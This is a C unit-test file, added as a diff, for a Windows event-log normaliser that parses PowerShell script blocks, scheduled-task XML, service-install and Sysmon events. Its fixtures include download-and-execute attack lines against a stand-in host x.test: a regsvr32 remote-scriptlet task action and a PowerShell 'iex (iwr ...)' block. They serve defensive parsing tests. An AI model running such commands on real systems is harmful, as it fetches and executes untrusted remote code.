@@ -1,0 +1,512 @@
+/*
+ * check_sources.c -- unit tests of the execution sources of the event
+ * model: PowerShell 4104 script blocks joined from their parts (in
+ * order, out of order, missing, repeated, cut), scheduled-task XML
+ * (well-formed and hostile), services (7045 / 4697), Sysmon 22 / 11,
+ * and which of them make a host examinable.
+ */
+#include <check.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "ev_arena.h"
+#include "ev_util.h"
+#include "event.h"
+
+static struct ev_arena arena;
+
+static void
+setup(void)
+{
+	ev_arena_init(&arena);
+}
+
+static void
+teardown(void)
+{
+	ev_arena_release(&arena);
+}
+
+static void
+record(struct ev_record *r, const char *provider, const char *channel,
+    uint32_t id, const struct ev_pair *data, uint32_t n)
+{
+	memset(r, 0, sizeof(*r));
+	r->provider = provider;
+	r->channel = channel;
+	r->event_id = id;
+	r->kind = ev_classify(provider, strlen(provider), id);
+	r->computer = "WKS03.corp.local";
+	r->record_id = 7;
+	r->time = 132000000000000000ULL;
+	r->data = data;
+	r->ndata = n;
+}
+
+static struct ev_event *
+normalised(const char *provider, const char *channel, uint32_t id,
+    const struct ev_pair *data, uint32_t n)
+{
+	struct ev_record r;
+	struct ev_event *ev = ev_arena_alloc(&arena, sizeof(*ev));
+
+	ck_assert_ptr_nonnull(ev);
+	record(&r, provider, channel, id, data, n);
+	ck_assert_int_eq(ev_normalise(&r, &arena, ev), 0);
+	return ev;
+}
+
+START_TEST(test_classify_sources)
+{
+	static const struct { const char *prov; uint32_t id; int kind; } c[] = {
+		{ EV_PROVIDER_POWERSHELL, 4104, EV_KIND_SCRIPT },
+		{ EV_PROVIDER_SCM, 7045, EV_KIND_SERVICE },
+		{ EV_PROVIDER_SECURITY, 4697, EV_KIND_SERVICE },
+		{ EV_PROVIDER_SECURITY, 4698, EV_KIND_TASK },
+		{ EV_PROVIDER_SECURITY, 4702, EV_KIND_TASK },
+		{ EV_PROVIDER_SYSMON, 22, EV_KIND_DNS },
+		{ EV_PROVIDER_SYSMON, 11, EV_KIND_FILE },
+		/* the provider is checked with the id */
+		{ EV_PROVIDER_SYSMON, 4104, EV_KIND_NONE },
+		{ EV_PROVIDER_SECURITY, 7045, EV_KIND_NONE },
+		{ "Fake-Provider", 4698, EV_KIND_NONE },
+		{ EV_PROVIDER_SECURITY, 11, EV_KIND_NONE },
+	};
+
+	for (size_t i = 0; i < NELEM(c); i++)
+		ck_assert_int_eq(ev_classify(c[i].prov, strlen(c[i].prov),
+		    c[i].id), c[i].kind);
+	ck_assert_str_eq(ev_kind_name(EV_KIND_SCRIPT), "script_block");
+	ck_assert_str_eq(ev_kind_name(EV_KIND_DNS), "dns_query");
+	ck_assert_str_eq(ev_kind_name(EV_KIND_FILE), "file_create");
+}
+END_TEST
+
+/* ---- services ---- */
+
+START_TEST(test_service_7045)
+{
+	static const struct ev_pair d[] = {
+		{ "ServiceName", "updater" },
+		{ "ImagePath", "C:\\Program Files\\Up Date\\up.exe -k run" },
+		{ "ServiceType", "user mode service" },
+		{ "StartType", "auto start" },
+		{ "AccountName", "LocalSystem" },
+	};
+	struct ev_event *ev = normalised(EV_PROVIDER_SCM, "System", 7045, d,
+	    NELEM(d));
+
+	ck_assert_int_eq(ev->kind, EV_KIND_SERVICE);
+	ck_assert_str_eq(ev->col[EV_COL_SERVICE_NAME], "updater");
+	ck_assert_str_eq(ev->col[EV_COL_COMMAND_LINE],
+	    "C:\\Program Files\\Up Date\\up.exe -k run");
+	ck_assert_str_eq(ev->col[EV_COL_IMAGE],
+	    "C:\\Program Files\\Up Date\\up.exe");
+	ck_assert_str_eq(ev->col[EV_COL_START_TYPE], "auto start");
+	ck_assert_str_eq(ev->col[EV_COL_USER], "LocalSystem");
+	ck_assert(ev_examinable(ev));
+}
+END_TEST
+
+START_TEST(test_service_4697)
+{
+	static const struct ev_pair d[] = {
+		{ "SubjectUserSid", "S-1-5-21-1-2-3-1001" },
+		{ "SubjectUserName", "alice" },
+		{ "SubjectDomainName", "CORP" },
+		{ "SubjectLogonId", "0x5c3f1" },
+		{ "ServiceName", "x" },
+		{ "ServiceFileName",
+		    "\"C:\\Windows\\System32\\rundll32.exe\" a.dll,Run" },
+		{ "ServiceType", "0x10" },
+		{ "ServiceStartType", "3" },
+		{ "ServiceAccount", "LocalSystem" },
+	};
+	static const struct ev_pair comspec[] = {
+		{ "ServiceName", "z" },
+		{ "ImagePath", "%COMSPEC% /c C:\\Temp\\svc.exe" },
+	};
+	static const struct ev_pair odd[] = {
+		{ "ServiceName", "y" },
+		{ "ServiceFileName", "" },
+		{ "ServiceStartType", "99" },
+	};
+	struct ev_event *ev = normalised(EV_PROVIDER_SECURITY, "Security",
+	    4697, d, NELEM(d));
+
+	ck_assert_str_eq(ev->col[EV_COL_IMAGE],
+	    "C:\\Windows\\System32\\rundll32.exe");
+	ck_assert_str_eq(ev->col[EV_COL_START_TYPE], "demand start");
+	ck_assert_str_eq(ev->col[EV_COL_USER], "LocalSystem");
+	ck_assert_str_eq(ev->col[EV_COL_LOGON_ID], "0x5c3f1");
+	/* the .exe of an argument is not the image */
+	ev = normalised(EV_PROVIDER_SCM, "System", 7045, comspec,
+	    NELEM(comspec));
+	ck_assert_str_eq(ev->col[EV_COL_IMAGE], "%COMSPEC%");
+	/* no image path: nothing runs, not examinable; odd numbers kept */
+	ev = normalised(EV_PROVIDER_SECURITY, "Security", 4697, odd,
+	    NELEM(odd));
+	ck_assert_ptr_null(ev->col[EV_COL_COMMAND_LINE]);
+	ck_assert_ptr_null(ev->col[EV_COL_IMAGE]);
+	ck_assert_str_eq(ev->col[EV_COL_START_TYPE], "99");
+	ck_assert(!ev_examinable(ev));
+}
+END_TEST
+
+/* ---- scheduled tasks ---- */
+
+static const char task_xml[] =
+    "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n"
+    "<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/"
+    "2004/02/mit/task\">\r\n"
+    "  <Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger>"
+    "</Triggers>\r\n"
+    "  <Actions Context=\"Author\">\r\n"
+    "    <Exec>\r\n"
+    "      <Command>C:\\Windows\\System32\\regsvr32.exe</Command>\r\n"
+    "      <Arguments>/s /n /u /i:http://x.test/a.sct scrobj.dll"
+    "</Arguments>\r\n"
+    "    </Exec>\r\n"
+    "    <ComHandler><ClassId>{0}</ClassId></ComHandler>\r\n"
+    "    <Exec><Command>cmd.exe</Command></Exec>\r\n"
+    "  </Actions>\r\n"
+    "</Task>";
+
+START_TEST(test_task_xml)
+{
+	const char *cmd[4], *args[4];
+
+	ck_assert_int_eq(ev_task_actions(task_xml, &arena, cmd, args, 4), 2);
+	ck_assert_str_eq(cmd[0], "C:\\Windows\\System32\\regsvr32.exe");
+	ck_assert_str_eq(args[0], "/s /n /u /i:http://x.test/a.sct scrobj.dll");
+	ck_assert_str_eq(cmd[1], "cmd.exe");
+	ck_assert_str_eq(args[1], "");
+	/* max bounds what is kept, not what is counted */
+	ck_assert_int_eq(ev_task_actions(task_xml, &arena, cmd, args, 1), 2);
+	ck_assert_str_eq(cmd[0], "C:\\Windows\\System32\\regsvr32.exe");
+}
+END_TEST
+
+static const struct {
+	const char	*xml;
+	int		 n;
+	const char	*cmd, *args;	/* of the first action */
+} hostile[] = {
+	{ "", 0, NULL, NULL },
+	{ "<", 0, NULL, NULL },
+	{ "<Exec", 0, NULL, NULL },
+	{ "<Exec><Command>a.exe", 0, NULL, NULL },	/* never closed */
+	{ "<Exec><Command>a.exe</Command>", 0, NULL, NULL },
+	{ "<Exec><Command>a.exe</Command></Exec>", 1, "a.exe", "" },
+	/* prefixes, entities, character references, CDATA, comments */
+	{ "<t:Exec><t:Command>&quot;C:\\a b\\x.exe&quot;</t:Command>"
+	  "<t:Arguments>-c &amp;&#x41;&#66;&lt;&gt;&apos;</t:Arguments>"
+	  "</t:Exec>", 1, "\"C:\\a b\\x.exe\"", "-c &AB<>'" },
+	{ "<Exec><Command>a<!-- </Exec> --><![CDATA[<b>&amp;]]>c</Command>"
+	  "</Exec>", 1, "a<b>&amp;c", "" },
+	/* a bad or huge reference stays literal; NUL becomes U+FFFD */
+	{ "<Exec><Command>&bogus; &#xZZ; &#99999999999; &#0;</Command>"
+	  "</Exec>", 1, "&bogus; &#xZZ; &#99999999999; \xef\xbf\xbd", "" },
+	/* a DOCTYPE with an entity is skipped, the entity not expanded */
+	{ "<!DOCTYPE t [<!ENTITY e \"evil.exe\"> <!ELEMENT x (y)>]>"
+	  "<Exec><Command>&e;</Command></Exec>", 1, "&e;", "" },
+	/* quotes hide '>' in attributes; empty elements */
+	{ "<Exec a='>' b=\"/>\"><Command x=\">\">q.exe</Command><Arguments/>"
+	  "</Exec><Exec/><Command>outside.exe</Command>", 1, "q.exe", "" },
+	/* unterminated comment / CDATA / declaration run to the end */
+	{ "<Exec><Command>a.exe</Command></Exec><!-- <Exec>", 1, "a.exe", "" },
+	{ "<![CDATA[<Exec><Command>no.exe</Command></Exec>", 0, NULL, NULL },
+	{ "<!DOCTYPE [[[[", 0, NULL, NULL },
+	{ "<?xml <Exec><Command>no.exe</Command></Exec>", 0, NULL, NULL },
+	/* case matters in XML */
+	{ "<exec><command>no.exe</command></exec>", 0, NULL, NULL },
+	/* nested Exec: the inner one starts over */
+	{ "<Exec><Command>a</Command><Exec><Command>b</Command></Exec>"
+	  "</Exec>", 1, "b", "" },
+};
+
+START_TEST(test_task_xml_hostile)
+{
+	const char *cmd[EV_TASK_ACTIONS_MAX], *args[EV_TASK_ACTIONS_MAX];
+	int n = ev_task_actions(hostile[_i].xml, &arena, cmd, args,
+	    EV_TASK_ACTIONS_MAX);
+
+	ck_assert_msg(n == hostile[_i].n, "case %d: %d actions", _i, n);
+	if (hostile[_i].cmd != NULL) {
+		ck_assert_str_eq(cmd[0], hostile[_i].cmd);
+		ck_assert_str_eq(args[0], hostile[_i].args);
+	}
+}
+END_TEST
+
+/* Many actions and a document past the size bound. */
+START_TEST(test_task_xml_bounds)
+{
+	size_t cap = EV_TASK_XML_MAX + 4096, len = 0;
+	char *big = malloc(cap);
+	const char *cmd[EV_TASK_ACTIONS_MAX], *args[EV_TASK_ACTIONS_MAX];
+	static const char act[] = "<Exec><Command>a.exe</Command></Exec>";
+	int want = 0;
+
+	ck_assert_ptr_nonnull(big);
+	while (len + sizeof(act) < cap) {
+		memcpy(big + len, act, sizeof(act) - 1);
+		len += sizeof(act) - 1;
+		if (len <= EV_TASK_XML_MAX)
+			want++;
+	}
+	big[len] = '\0';
+	ck_assert_int_eq(ev_task_actions(big, &arena, cmd, args,
+	    EV_TASK_ACTIONS_MAX), want);
+	ck_assert_str_eq(cmd[EV_TASK_ACTIONS_MAX - 1], "a.exe");
+	free(big);
+}
+END_TEST
+
+START_TEST(test_task_4698)
+{
+	const struct ev_pair d[] = {
+		{ "SubjectUserSid", "S-1-5-21-1-2-3-1001" },
+		{ "SubjectUserName", "alice" },
+		{ "SubjectDomainName", "CORP" },
+		{ "SubjectLogonId", "0x5c3f1" },
+		{ "TaskName", "\\Updater" },
+		{ "TaskContent", task_xml },
+		{ "ClientProcessId", "0x1f0" },
+	};
+	struct ev_event *ev = normalised(EV_PROVIDER_SECURITY, "Security",
+	    4698, d, NELEM(d));
+
+	ck_assert_int_eq(ev->kind, EV_KIND_TASK);
+	ck_assert_str_eq(ev->col[EV_COL_TASK_NAME], "\\Updater");
+	ck_assert_str_eq(ev->col[EV_COL_IMAGE],
+	    "C:\\Windows\\System32\\regsvr32.exe");
+	ck_assert_str_eq(ev->col[EV_COL_COMMAND_LINE],
+	    "C:\\Windows\\System32\\regsvr32.exe /s /n /u "
+	    "/i:http://x.test/a.sct scrobj.dll\ncmd.exe");
+	ck_assert_str_eq(ev->col[EV_COL_USER], "CORP\\alice");
+	ck_assert_str_eq(ev->col[EV_COL_PID], "496");
+	ck_assert(ev_examinable(ev));
+}
+END_TEST
+
+/* ---- Sysmon 22 / 11 ---- */
+
+START_TEST(test_sysmon_dns_file)
+{
+	static const struct ev_pair dns[] = {
+		{ "ProcessGuid", "{11111111-2222-3333-4444-555555555555}" },
+		{ "ProcessId", "4242" },
+		{ "QueryName", "x.test" },
+		{ "QueryStatus", "0" },
+		{ "QueryResults", "::ffff:192.0.2.7;" },
+		{ "Image", "C:\\Windows\\System32\\certutil.exe" },
+	};
+	static const struct ev_pair file[] = {
+		{ "ProcessGuid", "{11111111-2222-3333-4444-555555555555}" },
+		{ "ProcessId", "4242" },
+		{ "Image", "C:\\Windows\\System32\\certutil.exe" },
+		{ "TargetFilename", "C:\\Users\\alice\\AppData\\Local\\Temp\\a.exe" },
+	};
+	struct ev_event *ev = normalised(EV_PROVIDER_SYSMON,
+	    "Microsoft-Windows-Sysmon/Operational", 22, dns, NELEM(dns));
+
+	ck_assert_int_eq(ev->kind, EV_KIND_DNS);
+	ck_assert_str_eq(ev->col[EV_COL_QUERY_NAME], "x.test");
+	ck_assert_str_eq(ev->col[EV_COL_QUERY_RESULTS], "::ffff:192.0.2.7;");
+	ck_assert_str_eq(ev->col[EV_COL_PID], "4242");
+	ck_assert_str_eq(ev->col[EV_COL_IMAGE],
+	    "C:\\Windows\\System32\\certutil.exe");
+	ck_assert(!ev_examinable(ev));
+	ev = normalised(EV_PROVIDER_SYSMON,
+	    "Microsoft-Windows-Sysmon/Operational", 11, file, NELEM(file));
+	ck_assert_int_eq(ev->kind, EV_KIND_FILE);
+	ck_assert_str_eq(ev->col[EV_COL_TARGET_FILENAME],
+	    "C:\\Users\\alice\\AppData\\Local\\Temp\\a.exe");
+	ck_assert_str_eq(ev->col[EV_COL_PROCESS_GUID],
+	    "{11111111-2222-3333-4444-555555555555}");
+}
+END_TEST
+
+/* ---- script blocks ---- */
+
+#define PS_CHAN	"Microsoft-Windows-PowerShell/Operational"
+
+/* A 4104 part: number/total of block id, text. */
+static struct ev_event *
+part(const char *id, int num, int tot, const char *text, uint64_t t)
+{
+	struct ev_pair *d = ev_arena_alloc(&arena, 5 * sizeof(*d));
+	char *n = ev_arena_alloc(&arena, 16), *o = ev_arena_alloc(&arena, 16);
+	struct ev_event *ev;
+
+	ck_assert_ptr_nonnull(d);
+	snprintf(n, 16, "%d", num);
+	snprintf(o, 16, "%d", tot);
+	d[0] = (struct ev_pair){ "MessageNumber", n };
+	d[1] = (struct ev_pair){ "MessageTotal", o };
+	d[2] = (struct ev_pair){ "ScriptBlockText", text };
+	d[3] = (struct ev_pair){ "ScriptBlockId", id };
+	d[4] = (struct ev_pair){ "Path", "" };
+	ev = normalised(EV_PROVIDER_POWERSHELL, PS_CHAN, 4104, d, 5);
+	ev->time = t;
+	return ev;
+}
+
+START_TEST(test_script_one_part)
+{
+	struct ev_event *ev = part("{a}", 1, 1, "iex (iwr http://x.test)", 1);
+
+	ck_assert_int_eq(ev->kind, EV_KIND_SCRIPT);
+	ck_assert_str_eq(ev->col[EV_COL_SCRIPT_TEXT], "iex (iwr http://x.test)");
+	ck_assert_str_eq(ev->col[EV_COL_SCRIPT_PART], "1/1");
+	ck_assert_str_eq(ev->col[EV_COL_SCRIPT_BLOCK_ID], "{a}");
+	ck_assert_ptr_null(ev->col[EV_COL_SCRIPT_PATH]);
+	ck_assert_ptr_null(ev->col[EV_COL_SCRIPT_NOTE]);
+	ck_assert(ev_examinable(ev));
+}
+END_TEST
+
+/* Out of order, two blocks interleaved, a part logged twice. */
+START_TEST(test_script_join)
+{
+	struct ev_event *ev[7];
+
+	ev[0] = part("{b}", 3, 3, "C", 10);
+	ev[1] = part("{a}", 2, 2, "-two", 10);
+	ev[2] = part("{b}", 1, 3, "A", 11);
+	ev[3] = part("{a}", 1, 2, "one", 12);
+	ev[4] = part("{b}", 2, 3, "B", 12);
+	ev[5] = part("{b}", 2, 3, "B", 13);	/* forwarded twice */
+	ev[6] = part("{c}", 1, 1, "alone", 13);
+	ck_assert_int_eq(ev_scripts_join(ev, 7, &arena), 0);
+	ck_assert_str_eq(ev[3]->col[EV_COL_SCRIPT_TEXT], "one-two");
+	ck_assert_ptr_null(ev[3]->col[EV_COL_SCRIPT_NOTE]);
+	ck_assert_ptr_null(ev[1]->col[EV_COL_SCRIPT_TEXT]);
+	ck_assert_str_eq(ev[2]->col[EV_COL_SCRIPT_TEXT], "ABC");
+	ck_assert_ptr_null(ev[2]->col[EV_COL_SCRIPT_NOTE]);
+	ck_assert_ptr_null(ev[0]->col[EV_COL_SCRIPT_TEXT]);
+	ck_assert_ptr_null(ev[4]->col[EV_COL_SCRIPT_TEXT]);
+	ck_assert_ptr_null(ev[5]->col[EV_COL_SCRIPT_TEXT]);
+	ck_assert_str_eq(ev[6]->col[EV_COL_SCRIPT_TEXT], "alone");
+	ck_assert_str_eq(ev[4]->col[EV_COL_SCRIPT_PART], "2/3");
+}
+END_TEST
+
+/* The same id on two computers is two blocks. */
+START_TEST(test_script_hosts)
+{
+	struct ev_event *ev[2];
+
+	ev[0] = part("{a}", 1, 2, "x", 1);
+	ev[1] = part("{a}", 2, 2, "y", 2);
+	ev[1]->col[EV_COL_COMPUTER] = "OTHER";
+	ck_assert_int_eq(ev_scripts_join(ev, 2, &arena), 0);
+	ck_assert_str_eq(ev[0]->col[EV_COL_SCRIPT_TEXT], "x");
+	ck_assert_str_eq(ev[0]->col[EV_COL_SCRIPT_NOTE],
+	    "partial: 1 of 2 parts (missing 2)");
+	ck_assert_str_eq(ev[1]->col[EV_COL_SCRIPT_TEXT], "y");
+	ck_assert_str_eq(ev[1]->col[EV_COL_SCRIPT_NOTE],
+	    "partial: 1 of 2 parts (missing 1)");
+}
+END_TEST
+
+START_TEST(test_script_missing)
+{
+	struct ev_event *ev[3];
+
+	/* the first part lost: the first present one carries the text */
+	ev[0] = part("{a}", 4, 12, "d", 1);
+	ev[1] = part("{a}", 2, 12, "b", 2);
+	ev[2] = part("{a}", 12, 12, "l", 3);
+	ck_assert_int_eq(ev_scripts_join(ev, 3, &arena), 0);
+	ck_assert_str_eq(ev[1]->col[EV_COL_SCRIPT_TEXT], "bdl");
+	ck_assert_str_eq(ev[1]->col[EV_COL_SCRIPT_NOTE],
+	    "partial: 3 of 12 parts (missing 1, 3, 5, 6, 7 and 4 more)");
+	ck_assert_ptr_null(ev[0]->col[EV_COL_SCRIPT_TEXT]);
+}
+END_TEST
+
+/* Numbers that are evidence: out of range, zero, negative, huge. */
+START_TEST(test_script_bad_numbers)
+{
+	struct ev_event *ev[4];
+
+	ev[0] = part("{a}", 0, 2, "zero", 1);
+	ev[1] = part("{a}", 3, 2, "three", 2);
+	ev[2] = part("{a}", -1, 2, "neg", 3);
+	ev[3] = part("{b}", 1, 2000000000, "huge", 4);
+	ck_assert_int_eq(ev_scripts_join(ev, 4, &arena), 0);
+	for (int i = 0; i < 4; i++)
+		ck_assert_ptr_null(ev[i]->col[EV_COL_SCRIPT_TEXT]);
+}
+END_TEST
+
+/* A block longer than EV_SCRIPT_MAX is cut on a character boundary. */
+START_TEST(test_script_cut)
+{
+	size_t half = EV_SCRIPT_MAX / 2 + 1;
+	char *a = malloc(half + 1), *b = malloc(half + 1);
+	struct ev_event *ev[2];
+	size_t len;
+
+	ck_assert(a != NULL && b != NULL);
+	memset(a, 'a', half);
+	a[half] = '\0';
+	/* two-byte characters, so the cut falls inside one */
+	for (size_t i = 0; i + 1 < half; i += 2)
+		memcpy(b + i, "\xc3\xa9", 2);
+	b[half - 1] = 'z';
+	b[half] = '\0';
+	ev[0] = part("{a}", 1, 2, a, 1);
+	ev[1] = part("{a}", 2, 2, b, 2);
+	ck_assert_int_eq(ev_scripts_join(ev, 2, &arena), 0);
+	len = strlen(ev[0]->col[EV_COL_SCRIPT_TEXT]);
+	ck_assert_uint_le(len, EV_SCRIPT_MAX);
+	ck_assert_uint_ge(len, EV_SCRIPT_MAX - 1);
+	/* it ends on a whole character */
+	ck_assert_int_ne((unsigned char)ev[0]->col[EV_COL_SCRIPT_TEXT][len - 1],
+	    0xc3);
+	ck_assert_str_eq(ev[0]->col[EV_COL_SCRIPT_NOTE], "cut at 1048576 bytes");
+	free(a);
+	free(b);
+}
+END_TEST
+
+static Suite *
+sources_suite(void)
+{
+	Suite *s = suite_create("sources");
+	TCase *tc = tcase_create("sources");
+
+	tcase_add_checked_fixture(tc, setup, teardown);
+	tcase_add_test(tc, test_classify_sources);
+	tcase_add_test(tc, test_service_7045);
+	tcase_add_test(tc, test_service_4697);
+	tcase_add_test(tc, test_task_xml);
+	tcase_add_loop_test(tc, test_task_xml_hostile, 0, NELEM(hostile));
+	tcase_add_test(tc, test_task_xml_bounds);
+	tcase_add_test(tc, test_task_4698);
+	tcase_add_test(tc, test_sysmon_dns_file);
+	tcase_add_test(tc, test_script_one_part);
+	tcase_add_test(tc, test_script_join);
+	tcase_add_test(tc, test_script_hosts);
+	tcase_add_test(tc, test_script_missing);
+	tcase_add_test(tc, test_script_bad_numbers);
+	tcase_add_test(tc, test_script_cut);
+	suite_add_tcase(s, tc);
+	return s;
+}
+
+int
+main(void)
+{
+	SRunner *sr = srunner_create(sources_suite());
+	int failed;
+
+	srunner_run_all(sr, CK_NORMAL);
+	failed = srunner_ntests_failed(sr);
+	srunner_free(sr);
+	return failed == 0 ? 0 : 1;
+}
